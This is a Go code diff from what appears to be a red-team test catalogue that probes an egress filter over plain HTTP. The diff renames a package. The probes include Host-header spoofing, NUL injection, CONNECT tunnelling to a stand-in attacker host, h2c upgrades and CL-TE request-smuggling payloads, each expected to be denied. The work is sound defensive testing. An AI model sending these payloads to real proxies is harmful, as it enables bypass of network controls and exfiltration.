@@ -4,20 +4,20 @@ import (
 	"fmt"
 	"strings"
 
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // hosts are the probes of cleartext HTTP, where Host must be the name: each says
 // another host, or says it twice, or hides it.
 func (c *catalogue) hosts() {
-	other := world.Fronted
+	other := simnet.Fronted
 	for _, h := range []struct {
 		id, title string
 		bypass    Bypass
 		text      string // see fill
 	}{
 		{"other", "another Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
-		{"attacker", "the attacker's Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {T}." + world.Attacker + "\r\n\r\n"},
+		{"attacker", "the attacker's Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {T}." + simnet.Attacker + "\r\n\r\n"},
 		{"two", "two Hosts, the allowed one first", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
 		{"two-reversed", "two Hosts, the allowed one last", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\r\nHost: {H}\r\n\r\n"},
 		{"none", "no Host", HostHeader, "GET /{T} HTTP/1.1\r\n\r\n"},
@@ -35,7 +35,7 @@ func (c *catalogue) hosts() {
 		{"nul", "a NUL inside of Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\x00.{H}\r\n\r\n"},
 		{"second-request", "an allowed request, and on the same connection one to another Host", HostHeader,
 			"GET /first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
-		{"connect", "CONNECT to the attacker", Fronting, "CONNECT {T}." + world.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + world.Attacker + ":443\r\n\r\n"},
+		{"connect", "CONNECT to the attacker", Fronting, "CONNECT {T}." + simnet.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + simnet.Attacker + ":443\r\n\r\n"},
 		{"upgrade-h2c", "an upgrade to HTTP/2, in which names would not be checked", Smuggling,
 			"GET /{T} HTTP/1.1\r\nHost: {O}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
 		{"cl-te", "Content-Length and Transfer-Encoding, a request to another Host inside", Smuggling,
@@ -45,14 +45,14 @@ func (c *catalogue) hosts() {
 		{"te-hidden", "a Transfer-Encoding that only some servers know", Smuggling,
 			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 5\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 	} {
-		text := c.fill(h.text, world.Plain, other)
-		c.add(Probe{ID: "host/" + h.id, Title: h.title, Bypass: h.bypass, task: &task{Do: "talk", Name: world.Plain, Port: 80, Send: once(text)}, proof: denied})
+		text := c.fill(h.text, simnet.Plain, other)
+		c.add(Probe{ID: "host/" + h.id, Title: h.title, Bypass: h.bypass, task: &task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(text)}, proof: denied})
 	}
 	c.add(Probe{ID: "host/h2-prior-knowledge", Title: "HTTP/2 without TLS, to another authority", Bypass: Fronting, task: &task{
-		Do: "talk", Name: world.Plain, Port: 80, Send: []piece{{Data: h2(":method", "GET", ":scheme", "http", ":authority", other, ":path", "/"+c.token())}},
+		Do: "talk", Name: simnet.Plain, Port: 80, Send: []piece{{Data: h2(":method", "GET", ":scheme", "http", ":authority", other, ":path", "/"+c.token())}},
 	}})
 	c.add(Probe{ID: "host/split", Title: "another Host, a byte a segment", Bypass: LeadingCRLF, task: &task{
-		Do: "talk", Name: world.Plain, Port: 80, Send: chop([]byte(c.fill("GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n", world.Plain, other)), 1),
+		Do: "talk", Name: simnet.Plain, Port: 80, Send: chop([]byte(c.fill("GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n", simnet.Plain, other)), 1),
 	}})
 }
 
